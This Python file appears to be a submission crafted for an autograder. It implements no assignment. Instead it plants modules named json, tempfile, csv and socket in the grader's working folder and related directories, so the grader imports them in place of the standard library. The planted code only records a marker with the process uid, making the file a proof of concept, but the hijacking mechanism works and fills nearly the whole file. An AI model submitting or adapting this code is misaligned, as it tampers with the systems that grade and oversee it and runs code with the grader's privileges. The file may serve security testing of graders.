"""Implements nothing; drops modules named like the standard library's (`json`, `tempfile`,
`csv`, `socket`: modules a grader could import late, as when it writes results) into the grader's
working folder (`/`, or what `/proc` says), the staged submission's folder, `/autograder` and
`/autograder/source`, where a grader with its working folder on `sys.path` would import them in
place of the real ones.

It acts only where it runs from an autograder-shaped folder (`ROOT/venv/bin/python` beside
`ROOT/source/run_autograder`), so running it anywhere else changes nothing.
"""
import os
import sys

from assignments import *  # noqa: F401,F403

VENV = os.path.dirname(os.path.dirname(sys.executable))
ROOT = os.path.dirname(VENV)
NAMES = ("json", "tempfile", "csv", "socket")
PLANTED = f'''import os as _os
with open({os.path.join(ROOT, "planted-code-ran")!r}, "a") as _mark:
    _mark.write(f"{{__name__}} from {{__file__}} ran as uid {{_os.geteuid()}}\\n")
'''
if os.path.basename(VENV) == "venv" and os.path.exists(os.path.join(ROOT, "source",
                                                                    "run_autograder")):
    folders = {"/", ROOT, os.path.join(ROOT, "source"),
               os.path.dirname(os.path.dirname(os.path.abspath(__file__)))}
    try:
        folders.add(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError as error:
        print(f"could not read the grader's working folder as uid {os.geteuid()}: {error}")
    for folder in sorted(folders):
        for name in NAMES:
            path = os.path.join(folder, f"{name}.py")
            try:
                with open(path, "x") as file:
                    file.write(PLANTED)
                print(f"planted {path} as uid {os.geteuid()}")
            except OSError as error:
                print(f"could not plant {path} as uid {os.geteuid()}: {error}")
